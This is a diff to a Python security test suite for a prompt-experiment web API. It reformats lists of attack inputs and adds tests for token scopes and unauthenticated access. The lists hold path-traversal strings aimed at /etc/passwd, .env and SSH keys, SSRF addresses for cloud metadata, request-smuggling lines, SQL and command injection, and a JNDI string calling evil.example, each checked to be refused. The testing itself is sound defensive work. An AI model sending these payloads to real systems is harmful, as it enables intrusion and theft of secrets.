@@ -22,6 +22,7 @@ serve:
   api_bases:
     - {url: "https://gateway.example.com/v1", api_key: "${env:OPENAI_API_KEY}"}
 """
+pytestmark = [pytest.mark.slow, pytest.mark.no_cover]
 TELLTALES = ("Traceback", 'File "', "site-packages", "sqlite3", "sqlalchemy", "root:x:0", "Error:", KEY, SECRET)
 JSON = {"content-type": "application/json"}
 
@@ -106,9 +107,23 @@ def test_what_is_attacked_works(http: httpx.Client) -> None:
     assert answer.status_code == 202, answer.text
 
 
-PATHS = ("../outside.jsonl", "/etc/passwd", ".env", ".promptprop/promptprop.db", "link.jsonl", "up/outside.jsonl",
-         "datasets/../../outside.jsonl", "..\\outside.jsonl", "file:///etc/passwd", "datasets/\x00", "-", "~/.ssh/id_rsa",
-         "%2e%2e/outside.jsonl", "\\\\host\\share", "x" * 5000)  # fmt: skip
+PATHS = (
+    "../outside.jsonl",
+    "/etc/passwd",
+    ".env",
+    ".promptprop/promptprop.db",
+    "link.jsonl",
+    "up/outside.jsonl",
+    "datasets/../../outside.jsonl",
+    "..\\outside.jsonl",
+    "file:///etc/passwd",
+    "datasets/\x00",
+    "-",
+    "~/.ssh/id_rsa",
+    "%2e%2e/outside.jsonl",
+    "\\\\host\\share",
+    "x" * 5000,
+)
 
 
 @pytest.mark.parametrize(
@@ -140,9 +155,20 @@ def test_no_field_leads_to_another_file(path: str, shape: Any, target: Target, h
 
 
 def test_no_path_of_a_request_leads_to_a_file(target: Target, http: httpx.Client) -> None:
-    for path in ("/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/.env", "/.promptprop/promptprop.db", "/etc/passwd",
-                 "/static/..%2f..%2f.env", "//evil.example/x", "/api/v1/runs/..%2f..%2f.env", "/api/v1/runs/%00",
-                 "/api/v1/prompts/..%2f.env/versions", "/api/dataset/..%2f.env", "/api/experiments/..%2f.env"):  # fmt: skip
+    for path in (
+        "/..%2f..%2fetc/passwd",
+        "/%2e%2e/%2e%2e/etc/passwd",
+        "/.env",
+        "/.promptprop/promptprop.db",
+        "/etc/passwd",
+        "/static/..%2f..%2f.env",
+        "//evil.example/x",
+        "/api/v1/runs/..%2f..%2f.env",
+        "/api/v1/runs/%00",
+        "/api/v1/prompts/..%2f.env/versions",
+        "/api/dataset/..%2f.env",
+        "/api/experiments/..%2f.env",
+    ):
         target.refused(http.get(path), 400, 404, 422)
     for line in (b"GET /../../etc/passwd HTTP/1.1", b"GET ../.env HTTP/1.1", b"GET file:///etc/passwd HTTP/1.1"):
         head = target.raw(line + b"\r\nHost: localhost\r\nConnection: close\r\n\r\n")
@@ -165,7 +191,7 @@ def test_tricks_with_hosts_are_refused(target: Target) -> None:
         b"GET /api/v1/runs HTTP/1.1\r\nHost : localhost\r\n\r\n",
         b"GET /api/v1/runs HTTP/1.0\r\n\r\n",
         b"GET http://evil.example/api/v1/runs HTTP/1.1\r\nHost: evil.example\r\n\r\n",
-        b"POST /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+        b"POST /x HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
         b"POST /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc",
         b"GET /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nX: a\x00b\r\n\r\n",
     ):
@@ -230,6 +256,51 @@ def test_whoever_was_forwarded_is_not_this_machine(target: Target, http: httpx.C
         target.refused(http.get("/api/v1/runs", headers={name: "127.0.0.1"}), 401)
 
 
+OPEN = {"/healthz", "/readyz", "/health-check"}
+STRANGER = {"x-forwarded-for": "203.0.113.7"}
+
+
+def operations(http: httpx.Client) -> list[tuple[str, str]]:
+    """Every method and path of the API, filled with names of nothing."""
+    document = http.get("/api/v1/openapi.json").json()
+    return [
+        (method.upper(), path.replace("{", "no-").replace("}", ""))
+        for path, found in document["paths"].items()
+        for method in found
+    ]
+
+
+def test_a_stranger_without_a_token_gets_no_further_than_the_door(target: Target, http: httpx.Client) -> None:
+    found = operations(http)
+    assert len(found) > 30
+    for method, path in found:
+        if path not in OPEN:
+            target.refused(http.request(method, path, headers={**STRANGER, **JSON}, content=b"{}"), 401)
+
+
+def test_a_token_opens_what_its_scope_holds_and_no_more(target: Target, http: httpx.Client) -> None:
+    made = {
+        scope: http.post("/api/v1/tokens", json={"name": f"a-{scope}", "scope": scope}).json()
+        for scope in ("read", "run")
+    }
+    reading = {"authorization": f"Bearer {made['read']['token']}"}
+    running = {"authorization": f"Bearer {made['run']['token']}"}
+    assert http.get("/api/v1/runs", headers=reading).status_code == 200
+    for method, path in (("POST", "/api/v1/runs"), ("POST", "/api/v1/runs/latest/cancel"), ("POST", "/api/v1/prompts")):
+        body = {"config": SUPPORT} if path.endswith("runs") else BODIES.get(path, {})
+        target.refused(http.request(method, path, headers=reading, json=body), 403)
+    for method, path in (("GET", "/api/v1/tokens"), ("GET", "/api/v1/audit"), ("DELETE", "/api/v1/runs/latest")):
+        target.refused(http.request(method, path, headers=running), 403)
+    target.refused(http.post("/api/v1/tokens", headers=running, json={"name": "x", "scope": "admin"}), 403)
+    assert http.delete(f"/api/v1/tokens/{made['run']['id']}").status_code < 300
+    target.refused(http.get("/api/v1/runs", headers=running), 401)
+    answer = http.get("/api/v1/runs", headers=reading)
+    assert answer.headers["cache-control"] == "no-store"
+    for secret in (made["read"]["token"], made["run"]["token"]):
+        assert secret not in target.logged()
+        assert secret not in http.get("/api/v1/audit").text
+
+
 def test_bodies_that_are_too_large_or_too_deep_are_refused(target: Target, http: httpx.Client) -> None:
     deep = b'{"config":' * 65 + b"1" + b"}" * 65
     for content in (deep, b"[" * 1_000_000, b'{"a":' * 500_000, b"[[[[" * 5_000):
@@ -289,12 +360,27 @@ def test_no_template_escapes(target: Target, http: httpx.Client) -> None:
             target.refused(http.post("/api/v1/runs", json=asking("prompt", prompt)), 422)
 
 
-ADDRESSES = ("http://169.254.169.254/latest/meta-data/", "http://2852039166/", "http://0xa9fea9fe/", "http://0251.0376.0251.0376/",
-             "http://[fd00:ec2::254]/", "http://[::ffff:169.254.169.254]/", "http://metadata.google.internal/", "http://127.0.0.1:8000",
-             "http://localhost:11434/v1", "https://gateway.example.com@169.254.169.254/v1", "https://gateway.example.com.evil.example/v1",
-             "https://gateway.example.com/v1/../admin", "https://gateway.example.com\\@evil.example/v1", "//169.254.169.254/",
-             "file:///etc/passwd", "https://gateway.example.com/v1%2f..", "http://gateway.example.com/v1", "${env:OPENAI_API_KEY}",
-             "https://evil.example/${env:OPENAI_API_KEY}")  # fmt: skip
+ADDRESSES = (
+    "http://169.254.169.254/latest/meta-data/",
+    "http://2852039166/",
+    "http://0xa9fea9fe/",
+    "http://0251.0376.0251.0376/",
+    "http://[fd00:ec2::254]/",
+    "http://[::ffff:169.254.169.254]/",
+    "http://metadata.google.internal/",
+    "http://127.0.0.1:8000",
+    "http://localhost:11434/v1",
+    "https://gateway.example.com@169.254.169.254/v1",
+    "https://gateway.example.com.evil.example/v1",
+    "https://gateway.example.com/v1/../admin",
+    "https://gateway.example.com\\@evil.example/v1",
+    "//169.254.169.254/",
+    "file:///etc/passwd",
+    "https://gateway.example.com/v1%2f..",
+    "http://gateway.example.com/v1",
+    "${env:OPENAI_API_KEY}",
+    "https://evil.example/${env:OPENAI_API_KEY}",
+)
 
 
 def test_no_model_is_at_an_address_of_the_attackers(target: Target, http: httpx.Client) -> None:
@@ -331,9 +417,28 @@ def test_no_setting_tells_what_the_environment_holds(target: Target, http: httpx
         target.refused(http.post("/api/v1/runs", json=asking(path, "${env:OPENAI_API_KEY}")), 422)
 
 
-INJECTIONS = ("'; DROP TABLE runs; --", '" OR 1=1 --', "%' UNION SELECT * FROM api_tokens --", "a\r\nX-Evil: 1\r\n\r\n<script>", "\x00",
-              "\U0001f600" * 60, "${jndi:ldap://evil.example/x}", "{{7*7}}", "<script>alert(1)</script>", "../../../../etc/passwd",
-              "$(id)", "`id`", "\x1b]0;evil\x07", "9" * 400, "-1", "1e999", "NaN", "null", "[]", "\u202e\u0000")  # fmt: skip
+INJECTIONS = (
+    "'; DROP TABLE runs; --",
+    '" OR 1=1 --',
+    "%' UNION SELECT * FROM api_tokens --",
+    "a\r\nX-Evil: 1\r\n\r\n<script>",
+    "\x00",
+    "\U0001f600" * 60,
+    "${jndi:ldap://evil.example/x}",
+    "{{7*7}}",
+    "<script>alert(1)</script>",
+    "../../../../etc/passwd",
+    "$(id)",
+    "`id`",
+    "\x1b]0;evil\x07",
+    "9" * 400,
+    "-1",
+    "1e999",
+    "NaN",
+    "null",
+    "[]",
+    "\u202e\u0000",
+)
 
 
 def test_injections_in_every_query_parameter_and_path_find_nothing(target: Target, http: httpx.Client) -> None:
